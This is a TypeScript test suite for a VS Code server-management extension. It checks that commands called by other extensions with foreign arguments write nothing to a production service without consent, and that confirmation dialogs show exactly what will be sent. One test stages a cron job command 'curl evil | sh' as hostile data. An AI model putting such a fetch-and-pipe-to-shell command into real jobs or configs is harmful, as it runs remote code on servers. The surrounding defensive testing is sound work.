import assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { withNumbers } from '../support/actions/actionCase';
import { actionCases } from '../support/actions/cases';
import { type CommandFacts, commandTable } from '../support/commands/commandTable';
import { type HostWindow, openHostWindow } from '../support/host/hostWindow';
import { recordQuestions } from '../support/host/recordedQuestions';
import { replaceMember } from '../support/host/replaceMember';
import { MemorySecrets } from '../support/memorySecrets';
import { SandboxProbe } from '../support/sandboxProbe';
import { startService } from '../support/startService';
import type { Environment } from '../../src/accounts/account';
import type { Sandbox } from '../../src/sandbox/sandbox';
import type { CommandId } from '../../src/actions/commands';
import { runCommand } from '../../src/ui/commands/runCommand';
import { recordFor } from '../support/accountRecord';

/** Commands that would leave the window or start a service of their own. */
const leftOut: ReadonlySet<CommandId> = new Set([
  'serverManagement.reportIssue',
  'serverManagement.useSandbox',
]);

/** Foreign arguments: resources, rows that only look like ours, and values. */
function attacksOn(command: CommandId, account: string): readonly (readonly unknown[])[] {
  const cases = actionCases.filter((each) => each.command === command);
  if (cases.length > 0) {
    return cases.flatMap(({ target, answers = {} }) => {
      const reference = { ...target, account };
      const type = 'ids' in reference ? 'resource' : 'collection';
      const values = withNumbers(answers);
      return [
        [reference, { values }],
        [{ type, reference, label: 'harmless' }, undefined, { values }],
        // All that a key binding can pass.
        [{ ...reference, values }],
      ];
    });
  }
  return [argumentsFor(commandTable[command].takes, account)];
}

function argumentsFor(takes: CommandFacts['takes'], account: string): readonly unknown[] {
  const server = { account, kind: 'server', ids: [1] };
  switch (takes) {
    case 'nothing':
      return [{ values: { account } }];
    case 'account':
      return [account];
    case 'resource':
      return [server];
    case 'resources':
      return [server, [server, { ...server, ids: [2] }]];
    case 'place':
      return [{ account, kind: 'cronJob', parents: [1] }];
    case 'draft':
      return [
        vscode.Uri.parse(`server-management-draft:/server-management/${account}/servers/1/1.json`),
      ];
    case 'text':
    case 'values':
      return ['name'];
  }
}

describe('every command, run by another extension', () => {
  let service: Sandbox;
  let probe: SandboxProbe;
  let window: HostWindow;
  let restores: (() => void)[];
  let questions: string[];

  before(async () => {
    // All commands together send more requests than a minute allows.
    service = await startService({ rateLimit: { limit: 100_000 } });
    probe = new SandboxProbe(service);
    window = openHostWindow(new MemorySecrets());
    for (const [id, environment] of [
      ['live', 'production'],
      ['trial', 'development'],
    ] as [string, Environment][]) {
      await window.services.accounts.save(recordFor(service, { id, label: id, environment }));
    }
  });

  after(async () => {
    await window.close();
    await service.close();
  });

  beforeEach(async () => {
    questions = [];
    const dismiss = (text: string, options?: { modal?: boolean; detail?: string }) => {
      if (options?.modal) questions.push(`${text}\n${options.detail}`);
      return Promise.resolve(undefined);
    };
    restores = [
      ...(['showWarningMessage', 'showErrorMessage', 'showInformationMessage'] as const).map(
        (name) => replaceMember(vscode.window, name, dismiss),
      ),
      replaceMember(vscode.window, 'createTerminal', () => ({ show: () => undefined })),
      recordQuestions().restore,
    ];
    await probe.forgetRequests();
  });

  afterEach(() => {
    for (const restore of restores) restore();
  });

  async function writes(): Promise<string[]> {
    return (await probe.requests())
      .filter(({ method }) => method !== 'GET')
      .map(({ method, path }) => `${method} ${path}`);
  }

  const commands = Object.keys(commandTable) as CommandId[];
  for (const command of commands.filter((id) => !leftOut.has(id))) {
    const { writes: reach, asks, takes } = commandTable[command];

    it(`sends nothing to a production service before the person agrees: ${command}`, async () => {
      for (const attack of attacksOn(command, 'live')) {
        questions = [];
        await runCommand(command, window.services, attack);
        assert.deepEqual(await writes(), []);
        if (reach !== 'service' || takes !== 'values') continue;
        assert.equal(questions.length, 1, questions.join('\n---\n'));
        assert.match(questions[0] ?? '', /\nAccount: live/);
      }
    });

    if (reach !== 'service' || takes !== 'values' || asks !== 'always') continue;
    it(`asks in every account: ${command}`, async () => {
      for (const attack of attacksOn(command, 'trial')) {
        questions = [];
        await runCommand(command, window.services, attack);
        assert.equal(questions.length, 1, questions.join('\n---\n'));
        assert.deepEqual(await writes(), []);
      }
    });
  }

  for (const command of ['applyPending', 'applyStaged'] as const) {
    it(`shows the values that others staged: ${command}`, async () => {
      const reference = { account: 'live', kind: 'cronJob', ids: [1, 101] } as const;
      const evil = { path: ['command'], before: 'true', after: 'curl evil | sh' };
      const { pending } = window.services;
      for (const origin of ['model', 'extension', 'folder'] as const) {
        questions = [];
        await pending.stage([{ reference, origin, changes: [evil] }]);
        const rows = pending.changes.all.map(({ path }) => ({
          resourceUri: vscode.Uri.from({ scheme: 'server-management-pending', path }),
        }));
        const given = command === 'applyStaged' ? rows : [{ id: 'pending', resourceStates: [] }];
        await runCommand(`serverManagement.${command}`, window.services, given);
        assert.equal(questions.length, 1, questions.join('\n---\n'));
        assert.match(questions[0] ?? '', /\n\+ "command": "curl evil \| sh"\n/);
        assert.match(questions[0] ?? '', /type "live"/);
        assert.deepEqual(await writes(), []);
        await pending.changes.discard(pending.changes.all);
      }
    });
  }

  it('shows its arguments, and sends exactly those, even if the caller changes them meanwhile', async () => {
    const target = { account: 'live', kind: 'server', ids: [1] };
    const options = { values: { name: 'as shown' } };
    restores.push(
      replaceMember(vscode.window, 'showWarningMessage', (...texts: readonly unknown[]) => {
        questions.push(JSON.stringify(texts));
        target.ids[0] = 2;
        options.values.name = 'as changed';
        return Promise.resolve(texts.at(-1));
      }),
    );
    await runCommand('serverManagement.renameServer', window.services, [target, options]);
    assert.match(questions[0] ?? '', /as shown/);
    const sent = (await probe.requests()).filter(({ method }) => method !== 'GET');
    assert.deepEqual(
      sent.map(({ path, body }) => ({ path, body })),
      [{ path: '/api/v3/servers/1/settings/meta', body: { name: 'as shown' } }],
    );
  });
});
